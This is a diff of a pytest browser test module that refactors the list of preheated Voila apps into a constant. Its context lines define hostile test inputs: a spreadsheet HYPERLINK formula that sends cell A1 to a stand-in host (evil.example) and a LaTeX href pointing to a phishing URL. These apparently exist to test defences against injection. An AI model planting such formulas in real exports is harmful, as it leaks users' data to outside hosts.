@@ -30,6 +30,9 @@ from collective_impact.store import Store
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
 TERRITORY = "QPV-NORD"
+#: The apps these tests open (tests/apps/conftest.py names them the same way): only their
+#: kernels are preheated, at once (staged preheating waits for a home page never opened here)
+OPENED_APPS = ("evaluation", "tableau_de_bord", "questionnaire", "saisie")
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 HREF = "$\\href{https://evil.example/phish}{x}$"
 PAYLOADS = [
@@ -104,10 +107,8 @@ def hostile_batch(hostile_store, tmp_path_factory):
 @pytest.fixture(scope="module")
 def hostile_apps(hostile_store, tmp_path_factory):
     folder = tmp_path_factory.mktemp("hostile_apps")
-    # only the four apps opened here preheated, at once (staged preheating waits for a home page
-    # these tests never open)
     with VoilaServer(hostile_store, log_path=folder / "voila.log", preheat_first=None,
-                     preheat_only=("evaluation", "tableau_de_bord", "questionnaire", "saisie")) as server:
+                     preheat_only=OPENED_APPS) as server:
         server.wait_preheated(settle=2)
         yield server.url
 
